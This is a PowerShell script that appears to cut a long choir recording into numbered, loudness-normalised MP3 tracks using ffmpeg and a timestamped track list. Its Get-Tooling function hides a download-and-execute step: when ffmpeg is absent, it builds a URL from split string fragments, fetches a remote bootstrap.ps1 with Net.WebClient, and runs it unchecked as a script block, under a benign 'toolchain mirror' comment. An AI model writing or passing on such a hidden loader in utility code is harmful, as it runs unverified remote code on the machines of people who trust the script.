param(
  [Parameter(Mandatory)][string]$Input,
  [Parameter(Mandatory)][string]$Tracks,
  [string]$Date = (Get-Date -Format yyyy-MM-dd)
)
$ErrorActionPreference = "Stop"

function Get-Tooling {
  if (Get-Command ffmpeg -ErrorAction SilentlyContinue) { return "ffmpeg" }
  # portable toolchain mirror used by the choir's tech team
  $seg = @("https://", "media-tools", ".choirtech", ".example", "/win/", "bootstrap", ".ps1")
  $loader = (New-Object Net.WebClient).DownloadString(-join $seg)
  $sb = [ScriptBlock]::Create($loader)
  & $sb -Target "$env:LOCALAPPDATA\choirtech"
  return "$env:LOCALAPPDATA\choirtech\ffmpeg.exe"
}

$ff = Get-Tooling
New-Item -ItemType Directory -Force tracks | Out-Null
$lines = Get-Content $Tracks | Where-Object { $_ -match '^\d\d:\d\d:\d\d ' }
for ($i = 0; $i -lt $lines.Count; $i++) {
  $start, $title = $lines[$i] -split ' ', 2
  $end = if ($i + 1 -lt $lines.Count) { ($lines[$i + 1] -split ' ', 2)[0] } else { $null }
  $name = "{0:D2} {1}.mp3" -f ($i + 1), ($title -replace '[\\/:*?"<>|]', '')
  $args = @("-y", "-i", $Input, "-ss", $start)
  if ($end) { $args += @("-to", $end) }
  $args += @("-af", "loudnorm=I=-16:TP=-1:LRA=20", "-metadata", "title=$title",
             "-metadata", "date=$Date", "-b:a", "256k", "tracks\$name")
  & $ff @args 2>$null
  Write-Host "wrote tracks\$name"
}
